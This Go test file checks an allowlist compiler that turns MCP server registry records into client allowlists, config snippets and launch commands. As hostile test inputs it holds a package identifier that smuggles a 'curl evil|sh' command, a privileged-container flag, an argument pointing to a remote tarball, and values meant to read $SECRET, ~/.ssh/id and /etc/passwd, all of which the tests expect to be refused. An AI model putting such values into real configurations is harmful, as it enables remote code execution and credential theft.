package allowlist_test

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/tollgate-dev/tollgate/core/fault"
	"github.com/tollgate-dev/tollgate/core/registry"
	"github.com/tollgate-dev/tollgate/core/registry/allowlist"
	"github.com/tollgate-dev/tollgate/test/must"
)

// newRecord returns a record with a document that has the properties.
func newRecord(t testing.TB, name, version, properties string) registry.Record {
	t.Helper()
	parsed, err := registry.ParseName(name)
	must.Succeed(t, err)
	v, err := registry.ParseVersion(version)
	must.Succeed(t, err)
	text := `{"name":"` + name + `","description":"About ` + name + `","version":"` + version + `"` + properties + `}`
	return registry.Record{Release: registry.Release{Name: parsed, Version: v}, Document: []byte(text)}
}

func remotes(list string) string { return `,"remotes":[` + list + `]` }

func packages(list string) string { return `,"packages":[` + list + `]` }

// list is a compiled list.
type list struct {
	Allowed, Denied []allowlist.Entry
	Definitions     []allowlist.Definition
	Excluded        []string
	Skipped         []allowlist.Skipped
}

// compile compiles the list of a format, alone and with all others, and wants the same.
func compile(t testing.TB, f allowlist.Format, listed, deleted []registry.Record) list {
	t.Helper()
	alone := compileOf(t, f, listed, deleted, f)
	if together := compileOf(t, f, listed, deleted, allowlist.Formats()...); !reflect.DeepEqual(alone, together) {
		t.Errorf("%s with the other formats: %+v, alone: %+v", f, together, alone)
	}
	return alone
}

func compileOf(t testing.TB, f allowlist.Format, listed, deleted []registry.Record, formats ...allowlist.Format) list {
	t.Helper()
	var l list
	c := allowlist.NewCompiler(allowlist.Output{
		Define: func(of allowlist.Format, d allowlist.Definition) error {
			if of == f {
				l.Definitions = append(l.Definitions, d)
			}
			return nil
		},
		Skip: func(of allowlist.Format, s allowlist.Skipped) {
			if of == f {
				l.Skipped = append(l.Skipped, s)
			}
		},
	}, formats...)
	listed = slices.Clone(listed)
	slices.SortStableFunc(listed, func(a, b registry.Record) int {
		return strings.Compare(a.Name.String(), b.Name.String())
	})
	for _, r := range listed {
		must.Succeed(t, c.Allow(r))
	}
	for _, r := range deleted {
		c.Deny(r)
	}
	all := c.Compile()
	l.Allowed, l.Denied = slices.Collect(all.Allowed(f)), slices.Collect(all.Denied(f))
	if f == allowlist.Gemini {
		l.Excluded = all.Excluded
	}
	l.Definitions = slices.DeleteFunc(l.Definitions, func(d allowlist.Definition) bool { return all.Shared(d.Name) })
	if n := all.Skipped(f); n != len(l.Skipped) {
		t.Errorf("%s: %d are counted, %d were skipped", f, n, len(l.Skipped))
	}
	return l
}

// TestCommands checks the command of each type of package.
func TestCommands(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`"registryType":"npm","identifier":"a","version":"1.0.0"`:                                                                                                                    "npx -y a@1.0.0",
		`"registryType":"npm","identifier":"a"`:                                                                                                                                      "npx -y a",
		`"registryType":"npm","identifier":"a","version":"1.0.0","runtimeHint":"bunx"`:                                                                                               "bunx a@1.0.0",
		`"registryType":"npm","identifier":"a","version":"1","runtimeArguments":[{"type":"named","name":"--yes"}]`:                                                                   "npx --yes a@1",
		`"registryType":"npm","identifier":"a","version":"1","runtimeArguments":[{"type":"positional","value":"a@1"}]`:                                                               "npx -y a@1",
		`"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"named","name":"-p","value":"{port}"}]`:                                                     "",
		`"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"named","name":"-p","value":"{x}","variables":{"x":{"value":"8"}}}]`:                        "npx -y a@1 -p 8",
		`"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"positional","isRequired":true}]`:                                                           "",
		`"registryType":"npm","identifier":"a","version":"1","runtimeHint":"sh"`:                                                                                                     "npx -y a@1",
		`"registryType":"npm","version":"1"`:                                                                                                                                         "",
		`"registryType":"pypi","identifier":"a","version":"1.0.0"`:                                                                                                                   "uvx a==1.0.0",
		`"registryType":"pypi","identifier":"a","version":"1.0.0","runtimeHint":"pipx"`:                                                                                              "pipx run a==1.0.0",
		`"registryType":"oci","identifier":"docker.io/a/b:2"`:                                                                                                                        "docker run -i --rm docker.io/a/b:2",
		`"registryType":"oci","identifier":"host:5000/a","version":"2"`:                                                                                                              "docker run -i --rm host:5000/a:2",
		`"registryType":"oci","identifier":"a@sha256:0","version":"2","runtimeHint":"podman"`:                                                                                        "podman run -i --rm a@sha256:0",
		`"registryType":"oci","identifier":"a:1","runtimeArguments":[{"type":"positional","value":"run"},{"type":"named","name":"-i"},{"type":"named","name":"-v","value":"/a:/b"}]`: "docker run --rm -i -v /a:/b a:1",
		`"registryType":"nuget","identifier":"A","version":"1.0.0"`:                                                                                                                  "dnx A@1.0.0 --yes",
		`"registryType":"nuget","identifier":"A","version":"1.0.0","packageArguments":[{"type":"positional","value":"x"}]`:                                                           "dnx A@1.0.0 --yes -- x",
		`"registryType":"mcpb","identifier":"https://example.com/a.mcpb"`:                                                                                                            "",
	} {
		list := compile(t, allowlist.Claude, []registry.Record{
			newRecord(t, "com.example/a", "1.0.0", packages("{"+text+"}")),
		}, nil)
		got := list.Allowed
		if want == "" {
			if len(got) != 1 || got[0].Name != "a" || len(list.Skipped) != 0 {
				t.Errorf("%s: got %+v, want the name alone", text, got)
			}
			continue
		}
		if len(got) != 1 || strings.Join(got[0].Command, " ") != want {
			t.Errorf("%s: got %+v, want %s", text, got, want)
		}
	}
}

// TestContainerVariables checks that a container gets each environment variable from the client,
// once (contract C-5).
func TestContainerVariables(t *testing.T) {
	t.Parallel()
	environment := `,"environmentVariables":[{"name":"KEY","isRequired":true},{"name":"LOG"},{"name":"KEY"}]`
	for arguments, want := range map[string]string{
		``: "docker run -i --rm -e KEY -e LOG a/b:1",
		`{"type":"named","name":"-e","value":"KEY"}`:                                                "docker run -i --rm -e KEY -e LOG a/b:1",
		`{"type":"named","name":"--env","value":"KEY=x"},{"type":"positional","value":"--env=LOG"}`: "docker run -i --rm --env KEY=x --env=LOG a/b:1",
		`{"type":"positional","value":"-eLOG"}`:                                                     "docker run -i --rm -eLOG -e KEY a/b:1",
		`{"type":"named","name":"-e"},{"type":"positional","value":"KEY"}`:                          "docker run -i --rm -e KEY -e LOG a/b:1",
		`{"type":"named","name":"-v","value":"/a:/b"},{"type":"positional","value":"a/b"}`:          "docker run -i --rm -v /a:/b -e KEY -e LOG a/b:1",
		`{"type":"positional","value":"run"},{"type":"named","name":"-i","value":"true","format":"boolean"},` +
			`{"type":"named","name":"--tty","value":"false","format":"boolean"},{"type":"positional","value":"a/b:1"}`: "docker run --rm -i -e KEY -e LOG a/b:1",
	} {
		r := newRecord(t, "com.example/a", "1.0.0",
			packages(`{"registryType":"oci","identifier":"a/b:1","runtimeArguments":[`+arguments+`]`+environment+`}`))
		if got := compile(t, allowlist.Claude, []registry.Record{r}, nil).Allowed; len(got) != 1 ||
			strings.Join(got[0].Command, " ") != want {
			t.Errorf("%s: got %+v, want %s", arguments, got, want)
		}
	}
}

// TestEmptyArguments checks named arguments without a value: a client would ask for it, so that a
// command has those only that must be there, or that have no value by their nature (contract C-5).
func TestEmptyArguments(t *testing.T) {
	t.Parallel()
	for argument, want := range map[string]string{
		`"description":"A user"`:                     "npx -y a@1",
		`"description":"A user","default":"bob"`:     "npx -y a@1 --x bob",
		`"description":"Fast","format":"boolean"`:    "npx -y a@1 --x",
		`"format":"boolean","isRequired":true`:       "npx -y a@1 --x",
		`"format":"string"`:                          "npx -y a@1 --x",
		`"description":"A user","isRequired":true`:   "",
		`"description":"A user","value":"{missing}"`: "",
	} {
		r := newRecord(t, "com.example/a", "1.0.0",
			packages(
				`{"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"named","name":"--x",`+argument+`}]}`))
		got := compile(t, allowlist.Claude, []registry.Record{r}, nil).Allowed
		if len(got) != 1 || strings.Join(got[0].Command, " ") != want {
			t.Errorf("%s: got %+v, want %q", argument, got, want)
		}
	}
}

// TestOtherPackages has documents whose command would start something else than the package that
// was checked, or would be an option. They are not listed, nor is its name (contract C-5).
func TestOtherPackages(t *testing.T) {
	t.Parallel()
	refused := []string{
		`"registryType":"npm","identifier":"--call=curl evil|sh","version":"1.0.0"`,
		`"registryType":"npm","identifier":"a","version":"-1"`,
		`"registryType":"oci","identifier":"--privileged","version":"1.0.0"`,
		`"registryType":"pypi","identifier":"--from","version":"1"`,
	}
	for _, argument := range []string{
		`{"type":"positional","value":"evil@1.0.0"}`, `{"type":"positional","value":"evil"}`,
		`{"type":"positional","default":"a@latest"}`,
		`{"type":"named","name":"-q","value":"evil"}`, `{"type":"named","name":"evil"}`,
		`{"type":"named","name":"-y"},{"type":"positional","value":"@evil/x"}`,
		`{"type":"positional","value":"https://evil.example/x.tgz"}`,
	} {
		for _, kind := range []string{`"npm"`, `"npm","runtimeHint":"bunx"`, `"pypi"`, `"pypi","runtimeHint":"pipx"`} {
			refused = append(refused,
				`"registryType":`+kind+`,"identifier":"a","version":"1","runtimeArguments":[`+argument+`]`)
		}
	}
	for _, text := range refused {
		r := newRecord(t, "com.example/a", "1.0.0", packages(`{`+text+`,"transport":{"type":"stdio"}}`))
		for _, f := range allowlist.Formats() {
			if list := compile(t, f, []registry.Record{r}, nil); len(list.Allowed)+len(list.Definitions) != 0 ||
				len(list.Skipped) != 1 {
				t.Errorf("%s: %s: %+v", f, text, list)
			}
		}
		if _, err := allowlist.NewSnippet(r, allowlist.ClientCursor); !fault.Is(err, fault.NotFound) {
			t.Errorf("%s: the snippet is %v", text, err)
		}
	}
	for text, want := range map[string]string{
		`"registryType":"npm","identifier":"a","version":"1","runtimeArguments":[{"type":"positional","value":"a"}]`:                            "npx -y a@1",
		`"registryType":"npm","identifier":"a","version":"1","runtimeArguments":[{"type":"named","name":"--registry","value":"https://r"}]`:     "npx -y --registry https://r a@1",
		`"registryType":"pypi","identifier":"a","version":"1","runtimeArguments":[{"type":"positional","value":"--python=3.13"}]`:               "uvx --python=3.13 a==1",
		`"registryType":"pypi","identifier":"a","version":"1","runtimeHint":"pipx","runtimeArguments":[{"type":"positional","value":"run"}]`:    "pipx run a==1",
		`"registryType":"oci","identifier":"a:1","runtimeArguments":[{"type":"named","name":"--network"},{"type":"positional","value":"host"}]`: "docker run -i --rm --network host a:1",
	} {
		list := compile(t, allowlist.Claude, []registry.Record{
			newRecord(t, "com.example/a", "1.0.0", packages("{"+text+"}")),
		}, nil)
		if len(list.Allowed) != 1 || strings.Join(list.Allowed[0].Command, " ") != want {
			t.Errorf("%s: %+v, want %s", text, list, want)
		}
	}
}

// TestURLs checks the pattern of the URL of a remote, and that it does not match foreign hosts.
func TestURLs(t *testing.T) {
	t.Parallel()
	for address, want := range map[string]string{
		"https://example.com/mcp":                "https://example.com/mcp",
		"https://example.com/{a}/mcp?b={c}":      "https://example.com/*/mcp?b=*",
		"https://{a}.example.com/mcp":            "https://*.example.com/mcp",
		"https://api-{a}.{b}.example.com:8443/x": "https://api-*.*.example.com:8443/x",
		"https://{a}.team.corp/mcp":              "https://*.team.corp/mcp",
		"https://{a}.example.co.uk/mcp":          "https://*.example.co.uk/mcp",
		"https://{a}.team.github.io/mcp":         "https://*.team.github.io/mcp",
		"https://{a}.co.uk/mcp":                  "",
		"https://{a}.GitHub.io/mcp":              "",
		"https://{a}.workers.dev/":               "",
		"https://{a}.s3.amazonaws.com/":          "",
		"https://{a}.corp/mcp":                   "",
		"https://{a}.example.com./mcp":           "",
		"https://{a}.0.0.1/mcp":                  "",
		"https://{a}.0.0x1/mcp":                  "",
		"https://{host}/mcp":                     "",
		"https://{a}.com/mcp":                    "",
		"https://api.{domain}/mcp":               "",
		"https://x{a}example.com/mcp":            "",
		"https://example.com{rest}":              "",
		"https://example.com:{port}/mcp":         "",
		"https://{user}@example.com/mcp":         "",
		"https://{a}#.example.com/mcp":           "",
		"https://{a}?.example.com/mcp":           "",
		"https://{a}\\\\.example.com/mcp":        "",
		"{base}/mcp":                             "",
		"{scheme}://example.com/mcp":             "",
		"https://*.example.com/mcp":              "",
		"https://example.com/*":                  "",
	} {
		list := compile(t, allowlist.VSCode, []registry.Record{
			newRecord(t, "com.example/a.b", "1.0.0", remotes(`{"type":"sse","url":"`+address+`"}`)),
		}, nil)
		got := list.Allowed
		if want == "" { // and no entry by its name, which would allow any URL
			if len(got) != 0 || len(list.Skipped) != 1 {
				t.Errorf("%s: got %+v and %+v", address, got, list.Skipped)
			}
			continue
		}
		if len(got) != 1 || got[0].URL != want {
			t.Errorf("%s: got %+v, want %s", address, got, want)
		}
	}
}

// TestDocumentsAreReadAsClientsReadThem has properties whose names differ in case, which a client
// ignores.
func TestDocumentsAreReadAsClientsReadThem(t *testing.T) {
	t.Parallel()
	r := newRecord(t, "com.example/a", "1.0.0",
		`,"Remotes":[{"type":"sse","url":"https://evil.example/"}],"packages":"none","remotes":[1,{"type":"sse","URL":"https://evil.example/","url":7}]`)
	list := compile(t, allowlist.Claude, []registry.Record{r}, nil)
	if len(list.Allowed) != 1 || list.Allowed[0].Name != "a" {
		t.Errorf("the list is %+v", list)
	}
}

// TestNamesInVSCode checks that servers without another entry have the name by which VS Code stores
// them, and that of the snippet (contract C-3).
func TestNamesInVSCode(t *testing.T) {
	t.Parallel()
	list := compile(t, allowlist.VSCode, []registry.Record{
		newRecord(t, "com.example/a", "1.0.0", ""), newRecord(t, "com.example/b.c", "1.0.0", remotes(`{"type":"sse"}`)),
	}, nil)
	var names []string
	for _, e := range list.Allowed {
		names = append(names, e.Name)
	}
	if !slices.Equal(names, []string{"a", "com.example/a", "com.example/b.c"}) || len(list.Skipped) != 0 {
		t.Errorf("the names are %q, skipped %+v", names, list.Skipped)
	}
}

// TestSharedNames has servers whose names are equal without the slash: no server has the name,
// so that no one takes the place of another (contract C-4).
func TestSharedNames(t *testing.T) {
	t.Parallel()
	remote := func(name string) registry.Record {
		return newRecord(t, name, "1.0.0", remotes(`{"type":"sse","url":"https://example.com/"}`))
	}
	listed := []registry.Record{
		remote("com.example-a/b"), remote("com.example-a/c"), remote("com.example/a-b"),
		newRecord(t, "com/example-a-b", "2.0.0", ""),
	}
	for _, f := range []allowlist.Format{allowlist.Gemini, allowlist.Kiro} {
		for range 2 {
			list := compile(t, f, listed[:3], nil)
			if len(list.Definitions) != 1 || list.Definitions[0].Name != "com.example-a-c" || len(list.Skipped) != 2 {
				t.Errorf("%s: %+v", f, list)
			}
			slices.Reverse(listed[:3])
		}
		if list := compile(t, f, listed, nil); len(list.Definitions) != 1 || len(list.Skipped) != 3 {
			t.Errorf("%s: %+v", f, list)
		}
	}
	if list := compile(t, allowlist.Gemini, listed[1:2], []registry.Record{
		listed[0], listed[2], listed[0],
	}); !slices.Equal(list.Excluded, []string{"com.example-a-b"}) {
		t.Errorf("excluded are %q", list.Excluded)
	}
}

// TestSharedURLs has two servers with one URL: it is denied when neither is listed any more
// (contract C-2).
func TestSharedURLs(t *testing.T) {
	t.Parallel()
	const shared = `{"type":"sse","url":"https://example.com/mcp"}`
	a, b := newRecord(t, "com.example/a", "1.0.0", remotes(shared)),
		newRecord(t, "org.example/b", "1.0.0", remotes(shared))
	for _, f := range []allowlist.Format{allowlist.Claude, allowlist.VSCode} {
		if list := compile(t, f, []registry.Record{a}, []registry.Record{b}); len(list.Allowed) != 1 ||
			len(list.Denied) != 0 {
			t.Errorf("%s: while one server has the URL: %+v", f, list)
		}
		if list := compile(t, f, nil, []registry.Record{a, b}); len(list.Allowed) != 0 || len(list.Denied) != 1 {
			t.Errorf("%s: after both were deleted: %+v", f, list)
		}
	}
	for _, f := range []allowlist.Format{allowlist.Gemini, allowlist.Kiro} {
		if list := compile(t, f, []registry.Record{a, b}, nil); len(list.Definitions) != 2 || len(list.Skipped) != 0 {
			t.Errorf("%s: %+v", f, list)
		}
	}
}

// TestNothingAllowedIsDenied draws documents and wants no denied entry that an allowed one matches,
// and each record in the list or among what was skipped.
func TestNothingAllowedIsDenied(t *testing.T) {
	t.Parallel()
	addresses := []string{
		"https://example.com/a", "https://{x}.example.com/a", "https://b.example.com/a", "https://c.example.com/{x}",
		"https://c.example.com/a", "https://{h}/a",
	}
	rapid.Check(t, func(rt *rapid.T) {
		draw := func(label string) []registry.Record {
			var all []registry.Record
			for i, kind := range rapid.SliceOfN(rapid.IntRange(0, 2*len(addresses)), 0, 6).Draw(rt, label) {
				properties := ""
				switch {
				case kind < len(addresses):
					properties = remotes(`{"type":"sse","url":"` + addresses[kind] + `"}`)
				case kind < 2*len(addresses):
					properties = packages(
						fmt.Sprintf(`{"registryType":"npm","identifier":"p%d","version":"1.0.0"}`, kind))
				}
				all = append(all, newRecord(t, fmt.Sprintf("com.example/%s%d", label, i), "1.0.0", properties))
			}
			return all
		}
		listed, deleted := draw("listed"), draw("deleted")
		list := compile(t, allowlist.Claude, listed, deleted)
		for _, d := range list.Denied {
			if d.Name != "" {
				rt.Fatalf("a name is denied: %+v", d)
			}
			for _, a := range list.Allowed {
				if d.URL != "" && (d.URL == a.URL || matches(d.URL, a.URL)) ||
					len(d.Command) > 0 && slices.Equal(a.Command, d.Command) {
					rt.Fatalf("%+v is denied and allowed by %+v", d, a)
				}
			}
		}
		if len(listed) > 0 && len(list.Allowed) == 0 && len(list.Skipped) == 0 {
			rt.Fatal("records were dropped silently")
		}
	})
}

// matches reports whether a text without "*" matches a pattern.
func matches(text, pattern string) bool {
	parts := strings.Split(pattern, "*")
	if len(parts) == 1 {
		return text == pattern
	}
	if !strings.HasPrefix(text, parts[0]) || !strings.HasSuffix(text, parts[len(parts)-1]) {
		return false
	}
	return true
}

// TestVariablesOfUsersStayTheirs has documents that try to get the value of a variable of the user.
func TestVariablesOfUsersStayTheirs(t *testing.T) {
	t.Parallel()
	for _, header := range []string{
		`"value":"$SECRET"`, `"value":"${SECRET}"`, `"value":"${env:SECRET}"`, `"default":"$SECRET"`,
		`"value":"{a}SECRET","variables":{"a":{"value":"$"}}`,
		`"default":"{a}","variables":{"a":{"default":"$SECRET"}}`,
	} {
		for _, properties := range []string{
			remotes(`{"type":"sse","url":"https://example.com/","headers":[{"name":"X",` + header + `}]}`),
			packages(
				`{"registryType":"npm","identifier":"a","version":"1","transport":{"type":"stdio"},"environmentVariables":[{"name":"X",` + header + `}]}`),
			packages(
				`{"registryType":"npm","identifier":"a","version":"1","transport":{"type":"stdio"},"packageArguments":[{"type":"named","name":"--x",` + header + `}]}`),
		} {
			r := newRecord(t, "com.example/a", "1.0.0", properties)
			for _, f := range []allowlist.Format{allowlist.Gemini, allowlist.Kiro} {
				if list := compile(t, f, []registry.Record{r}, nil); len(list.Definitions) != 0 ||
					len(list.Skipped) != 1 {
					t.Errorf("%s, %s: %+v", properties, f, list)
				}
			}
			for _, c := range allowlist.Clients() {
				if got, err := allowlist.NewSnippet(r, c.Client); !fault.Is(err, fault.NotFound) {
					t.Errorf("%s, %s: %+v, %v", properties, c.Client, got, err)
				}
			}
		}
	}
	// opencode replaces {env:NAME} and {file:PATH} in the text of its file, also in names.
	for _, header := range []string{
		`"name":"X","value":"{a}env:SECRET}","variables":{"a":{"value":"{"}}`, `"name":"X","value":"{env:SECRET"`,
		`"name":"{file:~/.ssh/id}","value":"x"`, `"name":"X","value":"{a}","variables":{"a":{"value":"{file:/etc/passwd}"}}`,
	} {
		r := newRecord(t, "com.example/a", "1.0.0",
			remotes(`{"type":"sse","url":"https://example.com/","headers":[{`+header+`}]}`))
		if got, err := allowlist.NewSnippet(r, "opencode"); !fault.Is(err, fault.NotFound) {
			t.Errorf("%s: opencode gets %+v, %v", header, got.Definition.Remote, err)
		}
	}
	own := newRecord(t, "com.example/a", "1.0.0",
		remotes(`{"type":"sse","url":"https://example.com/","headers":[{"name":"X","value":"{SECRET}"}]}`))
	list := compile(t, allowlist.Gemini, []registry.Record{own}, nil)
	if got := list.Definitions[0].Remote.Headers[0].Value; got != "${COM_EXAMPLE_A_SECRET}" {
		t.Errorf("the placeholder is %s", got)
	}
}

// TestLongValues has documents whose values grow when their variables are replaced.
func TestLongValues(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("{a}", 1<<16)
	variables := `"variables":{"a":{"value":"` + strings.Repeat("b", 1<<16) + `"}}`
	nested := `"value":"{a}{a}","variables":{"a":{"value":"{a}{a}","variables":{"a":{"value":"x"}}}}`
	for _, value := range []string{`"value":"` + long + `",` + variables, `"value":"{a}{a}",` + variables} {
		for _, properties := range []string{
			remotes(`{"type":"sse","url":"https://example.com/","headers":[{"name":"X",` + value + `}]}`),
			packages(
				`{"registryType":"npm","identifier":"a","version":"1","packageArguments":[{"type":"positional",` +
					value + `}]}`),
		} {
			r := newRecord(t, "com.example/a", "1.0.0", properties)
			for _, f := range []allowlist.Format{allowlist.Gemini, allowlist.Kiro} {
				if list := compile(t, f, []registry.Record{r}, nil); len(list.Definitions) != 0 ||
					len(list.Skipped) != 1 {
					t.Errorf("%s: %d definitions", f, len(list.Definitions))
				}
			}
			if _, err := allowlist.NewSnippet(r, allowlist.ClientVSCode); !fault.Is(err, fault.NotFound) {
				t.Errorf("snippet: %v, want fault.NotFound", err)
			}
		}
	}
	r := newRecord(t, "com.example/a", "1.0.0",
		remotes(`{"type":"sse","url":"https://example.com/","headers":[{"name":"X",`+nested+`}]}`))
	s, err := allowlist.NewSnippet(r, allowlist.ClientCursor)
	if err != nil || s.Definition.Remote.Headers[0].Value != strings.Repeat("${env:COM_EXAMPLE_A_A}", 2) {
		t.Errorf("variables of variables: %+v, %v", s.Definition.Remote, err)
	}
}

// TestSnippetsThatCannotBe has servers that no client can use.
func TestSnippetsThatCannotBe(t *testing.T) {
	t.Parallel()
	for properties, text := range map[string]string{
		"": "neither packages nor remotes",
		packages(`{"registryType":"mcpb","identifier":"https://example.com/a.mcpb"}`): `type "mcpb"`,
		packages(`{"registryType":"mcpb","identifier":"https://example.com/a.mcpb"},{"registryType":"npm","identifier":"a","transport":{"type":"sse"}},{"registryType":"npm","identifier":"b","transport":{"type":"sse"}}`): `type "mcpb"; a package does not use stdio, and clients start only packages that do`,
		packages(`{"registryType":"npm","identifier":"a","transport":{"type":"sse","url":"http://localhost/"}}`):                                                                                                            "does not use stdio",
		remotes(`{"type":"websocket","url":"https://example.com/"}`):                                                                                                                                                        "neither packages nor remotes",
	} {
		_, err := allowlist.NewSnippet(newRecord(t, "com.example/a", "1.0.0", properties), allowlist.ClientClaude)
		if !fault.Is(err, fault.NotFound) || !strings.Contains(err.Error(), text) {
			t.Errorf("%s: %v, want fault.NotFound with %s", properties, err, text)
		}
	}
	two := packages(
		`{"registryType":"npm","identifier":"asks","packageArguments":[{"type":"positional","isRequired":true}]},{"registryType":"npm","identifier":"fixed"}`)
	if got, err := allowlist.NewSnippet(newRecord(t, "com.example/a", "1.0.0", two),
		allowlist.ClientCursor); err != nil || strings.Join(got.Definition.Package.Command, " ") != "npx -y fixed" {
		t.Errorf("of two packages, the snippet has %+v, %v", got.Definition.Package, err)
	}
	for _, bad := range []string{"", "emacs", "Claude"} {
		if _, err := allowlist.ParseClient(bad); !fault.Is(err, fault.Invalid) {
			t.Errorf("client %q: %v, want fault.Invalid", bad, err)
		}
	}
}

// TestOffers: each remote and package that clients may use can be chosen, in the order in which they
// are tried.
func TestOffers(t *testing.T) {
	r := newRecord(t, "com.example/a", "1.0.0", `,"remotes":[{"type":"sse","url":"https://a.example.com/"},
		{"type":"streamable-http"},{"type":"streamable-http","url":"https://b.example.com/"}],
		"packages":[{"registryType":"npm","identifier":"a","version":"1","transport":{"type":"stdio"}},
		{"registryType":"mcpb","identifier":"https://example.com/a.mcpb","transport":{"type":"stdio"}}]`)
	install := allowlist.ParseInstall(r)
	var got []string
	for _, o := range install.Offers() {
		s, err := install.SnippetOf(allowlist.ClientClaude, o.ID)
		if (err == nil) != (s.Offer == o.ID) || err != nil && !fault.Is(err, fault.NotFound) {
			t.Errorf("%s: the snippet is of %q, error %v", o.ID, s.Offer, err)
		}
		if s.Definition.Remote != nil && s.Definition.Remote.URL != o.Text {
			t.Errorf("%s has the remote %s", o.ID, s.Definition.Remote.URL)
		}
		got = append(got, fmt.Sprintf("%s %s %t", o.ID, o.Type, err == nil))
	}
	want := []string{
		"remote-3 streamable-http true", "remote-1 sse true", "package-1 npm true", "package-2 mcpb false",
	}
	if !slices.Equal(got, want) {
		t.Errorf("the offers are %q, want %q", got, want)
	}
	if s, err := install.SnippetOf(allowlist.ClientClaude, ""); err != nil || s.Offer != "remote-3" {
		t.Errorf("without a choice it is %q, %v", s.Offer, err)
	}
	if _, err := install.SnippetOf(allowlist.ClientClaude, "remote-2"); !fault.Is(err, fault.NotFound) {
		t.Errorf("a remote without a URL: %v", err)
	}
}

func TestParseFormat(t *testing.T) {
	t.Parallel()
	for _, f := range allowlist.Formats() {
		if got, err := allowlist.ParseFormat(string(f)); got != f || err != nil {
			t.Errorf("%s: %v, %v", f, got, err)
		}
	}
	for _, bad := range []string{"", "Claude", "cursor"} {
		if _, err := allowlist.ParseFormat(bad); !fault.Is(err, fault.Invalid) {
			t.Errorf("%q: %v, want fault.Invalid", bad, err)
		}
	}
}
